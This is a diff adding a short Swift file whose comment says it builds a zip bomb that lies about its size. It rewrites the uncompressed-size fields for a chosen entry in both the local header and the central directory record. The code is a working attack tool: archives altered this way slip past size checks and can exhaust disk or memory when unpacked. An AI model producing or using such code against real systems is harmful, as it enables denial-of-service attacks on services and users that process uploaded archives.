@@ -1,0 +1,20 @@
+import Foundation
+
+/// Rewrites the sizes a zip file declares for one entry, to make a zip bomb that lies about its size.
+enum ZipSizes {
+    /// Sets the uncompressed size of `entry` in its local header and central directory record to `size`.
+    static func understate(entry: String, in path: String, as size: UInt32) throws {
+        var bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: path)))
+        let name = Array(entry.utf8)
+        let little = withUnsafeBytes(of: size.littleEndian, Array.init)
+        // Local header: signature PK\3\4, size at 22, name length at 26, name at 30.
+        // Central directory record: signature PK\1\2, size at 24, name length at 28, name at 46.
+        for (signature, sizeOffset, nameOffset) in [([0x50, 0x4B, 0x03, 0x04] as [UInt8], 22, 30), ([0x50, 0x4B, 0x01, 0x02], 24, 46)] {
+            for start in 0..<(bytes.count - nameOffset - name.count) where Array(bytes[start..<(start + 4)]) == signature
+                && Array(bytes[(start + nameOffset)..<(start + nameOffset + name.count)]) == name {
+                bytes.replaceSubrange((start + sizeOffset)..<(start + sizeOffset + 4), with: little)
+            }
+        }
+        try Data(bytes).write(to: URL(fileURLWithPath: path))
+    }
+}
